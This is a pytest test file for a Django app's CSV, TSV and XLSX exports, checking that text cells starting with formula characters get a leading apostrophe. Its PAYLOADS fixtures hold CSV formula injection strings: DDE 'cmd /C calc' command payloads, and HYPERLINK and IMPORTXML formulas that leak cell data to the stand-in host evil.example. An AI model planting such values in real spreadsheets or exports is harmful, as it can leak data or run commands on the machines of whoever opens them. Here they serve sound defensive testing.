"""No export writes a cell a spreadsheet would run.

Text starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading
``'`` in every CSV, TSV and XLSX export: the API's, the admin's "Export selected to CSV"
and django-import-export's. Plain numbers stay numbers; JSON Lines stays raw.
"""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

import openpyxl
import pytest

from api.export import csv_cell
from api.spreadsheet import FORMULA_STARTS, NUMBER, safe_cell
from config.router import router
from tests.factories import (
    ActorFactory,
    AgreementFactory,
    CoalitionFactory,
    MembershipFactory,
    PledgeCitationFactory,
    PledgeFactory,
    SourceFactory,
    UserFactory,
)
from tests.support.api import token_client

pytestmark = pytest.mark.django_db

PAYLOADS = {
    "actor": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "coalition": "@SUM(1+1)*cmd|' /C calc'!A0",
    "source": "+1+cmd|' /C calc'!A0",
    "pledge": "-2+3+cmd|' /C calc'!A0",
    "membership": "=1+1",
    "quote": '\t=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "publisher": "\r=1+1",
    "agreement": "@cmd|' /C calc'!A0",
}


@pytest.fixture
def hostile_rows():
    """One record of each exported kind, its text fields holding formulas."""
    actor = ActorFactory(name=PAYLOADS["actor"], aliases=[PAYLOADS["actor"], "plain"])
    coalition = CoalitionFactory(name=PAYLOADS["coalition"])
    source = SourceFactory(title=PAYLOADS["source"], publisher=PAYLOADS["publisher"])
    pledge = PledgeFactory(
        actor=actor, coalition=coalition, description=PAYLOADS["pledge"], quantity=5
    )
    PledgeCitationFactory(pledge=pledge, source=source, quote=PAYLOADS["quote"])
    membership = MembershipFactory(actor=actor, coalition=coalition, note=PAYLOADS["membership"])
    AgreementFactory(coalition=coalition, title=PAYLOADS["agreement"])
    return {"pledge": pledge, "membership": membership}


def is_safe(cell: str) -> bool:
    return not cell.startswith(FORMULA_STARTS) or bool(NUMBER.fullmatch(cell))


def assert_neutralised(cells: list[str], expected: set[str]):
    unsafe = [cell for cell in cells if not is_safe(cell)]
    assert not unsafe, unsafe
    missing = {"'" + payload for payload in expected} - set(cells)
    assert not missing, (missing, cells)


def test_csv_cells_neutralise_formulas_and_keep_numbers():
    cases = {
        "=1+1": "'=1+1",
        "+1+cmd": "'+1+cmd",
        "-2+3": "'-2+3",
        "@SUM(A1)": "'@SUM(A1)",
        "\t=1": "'\t=1",
        "\r=1": "'\r=1",
        "plain text": "plain text",
        "a=b": "a=b",
        "-5": "-5",  # a plain number is a number to every spreadsheet
        "+1.50": "+1.50",
        Decimal("-5.25"): "-5.25",
        -5: -5,
        ("=x", "y"): "'=x;y",
        None: "",
    }
    assert {value: csv_cell(value) for value in cases} == cases
    assert safe_cell(-5) == -5 and safe_cell("-5") == "-5" and safe_cell("=1") == "'=1"


def export_urls() -> list[str]:
    return [
        f"/api/v1/{prefix}/export/"
        for prefix, viewset, _basename in router.registry
        if hasattr(viewset, "export")
    ]


@pytest.mark.parametrize("url", export_urls())
def test_every_api_csv_export_neutralises_formulas(hostile_rows, url):
    client = token_client(UserFactory(is_superuser=True))  # drafts included
    response = client.get(url, {"format": "csv"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if not is_safe(cell)]
    neutralised = [cell for cell in cells if cell[1:].startswith(tuple(PAYLOADS.values()))]
    assert neutralised and all(cell.startswith("'") for cell in neutralised), cells


def test_json_lines_stay_raw(hostile_rows):
    client = token_client(UserFactory(is_superuser=True))
    response = client.get("/api/v1/pledges/export/", {"format": "jsonl"})
    rows = [json.loads(line) for line in b"".join(response.streaming_content).splitlines()]
    assert rows[0]["description"] == PAYLOADS["pledge"]
    assert rows[0]["actor_name"] == PAYLOADS["actor"]


@pytest.mark.parametrize("claim", ["pledge", "membership"])
def test_the_admin_export_selected_action_neutralises_formulas(
    client, admin_user, hostile_rows, claim
):
    client.force_login(admin_user)
    obj = hostile_rows[claim]
    meta = obj._meta
    response = client.post(
        f"/admin/{meta.app_label}/{meta.model_name}/",
        {"action": "export_csv", "_selected_action": [obj.pk]},
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    assert_neutralised(cells, {PAYLOADS[claim]})


def import_export_download(client, admin_user, extension: str) -> bytes:
    """The pledges as the admin's import-export "Export" page gives them."""
    client.force_login(admin_user)
    url = "/admin/pledges/pledge/export/"
    form = client.get(url).context["form"]
    choices = dict(form.fields["format"].choices)
    index = next(key for key, label in choices.items() if str(label).lower() == extension)
    data = {"format": index, "resource": 0}
    columns = [name for name in form.fields if name.startswith("pledgeresource_")]
    data.update(dict.fromkeys(columns, "on"))
    response = client.post(url, data)
    assert response.status_code == 200, response.content[:500]
    return response.content


def test_import_export_csv_neutralises_formulas(client, admin_user, hostile_rows):
    text = import_export_download(client, admin_user, "csv").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row.values()]
    assert_neutralised(cells, {PAYLOADS["pledge"], PAYLOADS["quote"]})
    assert rows[0]["quantity"] == "5"


def test_import_export_xlsx_neutralises_formulas(client, admin_user, hostile_rows):
    content = import_export_download(client, admin_user, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert_neutralised(texts, {PAYLOADS["pledge"], PAYLOADS["quote"]})
    assert 5 in [cell.value for cell in cells]  # numbers stay numbers
